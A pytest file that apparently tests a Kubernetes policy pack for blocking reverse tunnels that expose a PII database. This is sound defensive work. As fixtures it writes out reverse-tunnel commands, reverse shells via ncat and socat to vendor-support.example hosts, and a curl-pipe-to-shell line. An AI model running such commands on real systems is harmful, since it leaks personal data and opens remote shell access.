"""A reverse tunnel opens a port on a server outside the stack and forwards it to what the tunnel names, and
a URL in a command line is where the tool that runs with it may send (reviewer blind-k8s16 v07).

A vendor's support engineers reach the PII database through a chisel client in the cluster, which dials the
vendor's chisel server and opens `R:15432` there, forwarded to the database's port. Every tool of that kind
(`ssh -R`, autossh, chisel, bore, wstunnel, gost's `rtcp://`, frp, rathole, socat or ncat joining a
connection outside to one inside) is a tunnel, whether its image or its command line says so: it publishes
its targets to whoever reaches its server (pii-not-public). Its server's URL is where what it forwards goes
(no-pii-replication), and a public URL in the command line of a tool the pack does not know fails closed,
naming the tool. The baseline is the PII database, a web application's Service and a ConfigMap giving
`DB_HOST`, the database's address (unknown at preview).
"""

from __future__ import annotations

from typing import Any

import pytest

from tests.policies.baseline import Region, eu_region
from tests.policies.policy_harness import UNKNOWN, Res, messages, violations

PUBLIC = "pii-not-public"
NO_PII = "no-pii-replication"
SERVER = "https://support-gw.vendor-support.example:443"


def _baseline(region: Region) -> list[Res]:
    web = Res(
        "kubernetes:core/v1:Service",
        "web",
        {
            "metadata": {"name": "web", "namespace": "payments"},
            "spec": {"selector": {"app": "web"}, "ports": [{"port": 8080}]},
        },
        region.kubernetes,
    )
    db_config = Res(
        "kubernetes:core/v1:ConfigMap",
        "api-db",
        {
            "metadata": {"name": "api-db", "namespace": "payments"},
            "data": {"DB_HOST": UNKNOWN, "DB_PORT": "5432"},
        },
        region.kubernetes,
        deps={"data": [region.database]},
    )
    return [*region.resources, web, db_config]


def _workload(
    region: Region, image: str, args: list[str], command: list[str] | None = None, **extra: Any
) -> Res:
    """A Deployment of namespace `payments` running one container, given the database's host (`envFrom`)."""
    container: dict[str, Any] = {
        "name": "agent",
        "image": image,
        "args": args,
        "envFrom": [{"configMapRef": {"name": "api-db"}}],
        **extra,
    }
    if command is not None:
        container["command"] = command
    return Res(
        "kubernetes:apps/v1:Deployment",
        "support-tunnel",
        {
            "metadata": {"name": "support-tunnel", "namespace": "payments"},
            "spec": {
                "selector": {"matchLabels": {"app": "support-tunnel"}},
                "template": {
                    "metadata": {"labels": {"app": "support-tunnel"}},
                    "spec": {"containers": [container]},
                },
            },
        },
        region.kubernetes,
    )


def _shell(region: Region, script: str, image: str = "alpine:3.21") -> Res:
    return _workload(region, image, [script], ["/bin/sh", "-c"])


def _about(resources: list[Res], resource: Res, rule: str) -> str:
    return messages([d for d in violations(resources, rule) if d.urn == resource.urn])


# Reverse tunnels publish what they forward to (pii-not-public) --------------------------------------------

REVERSE = {
    "chisel by its image": (
        "jpillora/chisel:1.10.1",
        ["client", SERVER, "R:0.0.0.0:15432:$(DB_HOST):5432"],
        None,
    ),
    "chisel in a shell": (
        "alpine:3.21",
        [f"chisel client {SERVER} R:15432:$DB_HOST:5432"],
        ["/bin/sh", "-c"],
    ),
    "ssh -R": (
        "alpine:3.21",
        ["ssh", "-N", "-R", "15432:$(DB_HOST):5432", "support@bastion.vendor-support.example"],
        [],
    ),
    "ssh -fNR clustered": (
        "alpine:3.21",
        ["-fNR", "15432:$(DB_HOST):5432", "support@bastion.vendor-support.example"],
        ["ssh"],
    ),
    "autossh RemoteForward": (
        "alpine:3.21",
        ["autossh -M 0 -N -o 'RemoteForward 15432 $DB_HOST:5432' support@bastion.vendor-support.example"],
        ["/bin/sh", "-c"],
    ),
    "bore": (
        "ekzhang/bore:0.5.2",
        ["local", "5432", "--local-host", "$(DB_HOST)", "--to", "bore.vendor-support.example"],
        None,
    ),
    "wstunnel -R": (
        "ghcr.io/erebe/wstunnel:v10.1.8",
        ["client", "-R", "tcp://15432:$(DB_HOST):5432", "wss://tunnel.vendor-support.example"],
        ["/home/app/wstunnel"],
    ),
    "gost rtcp": (
        "gogost/gost:3.0.0",
        ["-L", "rtcp://:15432/$(DB_HOST):5432", "-F", "relay+wss://tunnel.vendor-support.example:443"],
        None,
    ),
    "socat joining two connections": (
        "alpine/socat:1.8.0.1",
        ["OPENSSL:tunnel.vendor-support.example:443", "TCP:$(DB_HOST):5432"],
        None,
    ),
    "ncat relaying a connection": (
        "alpine:3.21",
        ['ncat --sh-exec "ncat $DB_HOST 5432" tunnel.vendor-support.example 443'],
        ["/bin/sh", "-c"],
    ),
}


@pytest.mark.parametrize(("image", "args", "command"), REVERSE.values(), ids=list(REVERSE))
def test_a_reverse_tunnel_to_the_pii_database_is_blocked(
    image: str, args: list[str], command: list[str] | None
) -> None:
    region = eu_region()
    tunnel = _workload(region, image, args, command or None)
    about = _about([*_baseline(region), tunnel], tunnel, PUBLIC)
    assert "tunnel" in about and "pii" in about, about


def test_a_reverse_tunnel_to_a_web_application_is_allowed() -> None:
    region = eu_region()
    tunnel = _workload(region, "jpillora/chisel:1.10.1", ["client", SERVER, "R:8080:web.payments.svc:8080"])
    tunnel.props["spec"]["template"]["spec"]["containers"][0].pop("envFrom")
    resources = [*_baseline(region), tunnel]
    assert _about(resources, tunnel, PUBLIC) == ""


FORWARDS = {
    "ssh -L": ["ssh -N -L 15432:$DB_HOST:5432 support@bastion.vendor-support.example"],
    "chisel's forward remote": [f"chisel client {SERVER} 15432:$DB_HOST:5432"],
    "socat listening": ["socat TCP-LISTEN:5432,fork,reuseaddr TCP:$DB_HOST:5432"],
}


@pytest.mark.parametrize("script", FORWARDS.values(), ids=list(FORWARDS))
def test_a_forward_that_listens_in_the_pod_is_no_reverse_tunnel(script: list[str]) -> None:
    # It reaches out (judged as a copy) or listens in the pod (judged by what publishes it), and opens
    # nothing on a server outside.
    region = eu_region()
    tunnel = _workload(region, "alpine:3.21", script, ["/bin/sh", "-c"])
    assert _about([*_baseline(region), tunnel], tunnel, PUBLIC) == ""


UNBOUNDED = {
    "chisel's reverse SOCKS": ("jpillora/chisel:1.10.1", ["client", SERVER, "R:socks"], None),
    "socat's reverse shell": (
        "alpine/socat:1.8.0.1",
        ["OPENSSL:tunnel.vendor-support.example:443", "EXEC:/bin/sh"],
        None,
    ),
    "ncat's reverse shell": (
        "alpine:3.21",
        ["ncat -e /bin/sh tunnel.vendor-support.example 443"],
        ["/bin/sh", "-c"],
    ),
}


@pytest.mark.parametrize(("image", "args", "command"), UNBOUNDED.values(), ids=list(UNBOUNDED))
def test_a_reverse_tunnel_into_the_whole_network_fails_closed(
    image: str, args: list[str], command: list[str] | None
) -> None:
    region = eu_region()
    tunnel = _workload(region, image, args, command)
    tunnel.props["spec"]["template"]["spec"]["containers"][0].pop("envFrom")
    about = _about([*_baseline(region), tunnel], tunnel, PUBLIC)
    assert "whatever" in about and "pii-db" in about, about


# The tunnel's server, and URLs in command lines of tools the pack does not know (no-pii-replication) -----


def test_the_server_of_a_tunnel_that_reads_pii_is_where_it_sends() -> None:
    region = eu_region()
    tunnel = _workload(
        region, "jpillora/chisel:1.10.1", ["client", SERVER, "R:0.0.0.0:15432:$(DB_HOST):5432"]
    )
    about = _about([*_baseline(region), tunnel], tunnel, NO_PII)
    assert SERVER in about and "outside AWS" in about and "tunnel" in about, about


UNKNOWN_TOOLS = {
    "a positional URL": (
        "example/sync-agent:2.3",
        ["--mode", "push", "https://ingest.partner.example/v1"],
        ["/opt/agent"],
    ),
    "an option's URL": (
        "example/sync-agent:2.3",
        ["--upstream=https://ingest.partner.example/v1"],
        ["/opt/agent"],
    ),
    "the image's entrypoint": (
        "example/sync-agent:2.3",
        ["--upstream", "https://ingest.partner.example/v1"],
        None,
    ),
    "in a shell": (
        "example/sync-agent:2.3",
        ["exec /opt/agent --upstream https://ingest.partner.example/v1"],
        ["sh", "-c"],
    ),
}


@pytest.mark.parametrize(("image", "args", "command"), UNKNOWN_TOOLS.values(), ids=list(UNKNOWN_TOOLS))
def test_a_public_url_in_the_command_line_of_an_unknown_tool_fails_closed(
    image: str, args: list[str], command: list[str] | None
) -> None:
    region = eu_region()
    agent = _workload(region, image, args, command)
    about = _about([*_baseline(region), agent], agent, NO_PII)
    assert "https://ingest.partner.example/v1" in about and "does not know" in about, about


NOT_SENDING = {
    "a download into a shell": "curl -fsSL https://get.tool.example.com/install.sh | sh && exec /app/server",
    "a package install": "pip install --index-url https://pypi.partner.example/simple app && exec app",
    "a printed link": "echo Documentation: https://docs.partner.example/agent && exec /app/server",
    "an issuer": "exec /app/server --oidc-issuer-url=https://accounts.google.com",
    "a registry": "exec /app/server --image-registry https://ghcr.io/example",
    "an in-cluster URL": "exec /app/server --upstream http://web.payments.svc.cluster.local:8080",
    "an AWS endpoint of the region": "exec /app/server --queue https://sqs.eu-west-1.amazonaws.com/123456789012/jobs",
}


@pytest.mark.parametrize("script", NOT_SENDING.values(), ids=list(NOT_SENDING))
def test_a_url_no_tool_sends_to_outside_aws_is_no_destination(script: str) -> None:
    region = eu_region()
    agent = _shell(region, script, "example/app:1.0")
    resources = [*_baseline(region), agent]
    assert _about(resources, agent, NO_PII) == "", _about(resources, agent, NO_PII)


ROUTES = {
    "a pod's absolute name": "R:15432:customers-0.customers.payments.svc.cluster.local.:5432",
    "the Service in upper case": "R:15432:CUSTOMERS.PAYMENTS.SVC:5432",
}


@pytest.mark.parametrize("route", ROUTES.values(), ids=list(ROUTES))
def test_a_tunnels_route_names_a_pii_service_as_dns_resolves_it(route: str) -> None:
    # Routes are resolved as the pod's resolver does (blind-k8s16 v13, v17): a pod under its headless
    # Service, an absolute name, any case.
    region = eu_region()
    labels = {"app": "customers", "data-classification": "pii"}
    database = Res(
        "kubernetes:apps/v1:StatefulSet",
        "customers",
        {
            "metadata": {"name": "customers", "namespace": "payments", "labels": labels},
            "spec": {
                "serviceName": "customers",
                "selector": {"matchLabels": {"app": "customers"}},
                "template": {
                    "metadata": {"labels": labels},
                    "spec": {"containers": [{"name": "postgres", "image": "postgres:17.7"}]},
                },
            },
        },
        region.kubernetes,
    )
    service = Res(
        "kubernetes:core/v1:Service",
        "customers",
        {
            "metadata": {"name": "customers", "namespace": "payments"},
            "spec": {"clusterIP": "None", "selector": {"app": "customers"}, "ports": [{"port": 5432}]},
        },
        region.kubernetes,
    )
    tunnel = _workload(region, "jpillora/chisel:1.10.1", ["client", SERVER, route])
    tunnel.props["spec"]["template"]["spec"]["containers"][0].pop("envFrom")
    about = _about([*_baseline(region), database, service, tunnel], tunnel, PUBLIC)
    assert "the Service kubernetes:core/v1:Service 'customers'" in about, about
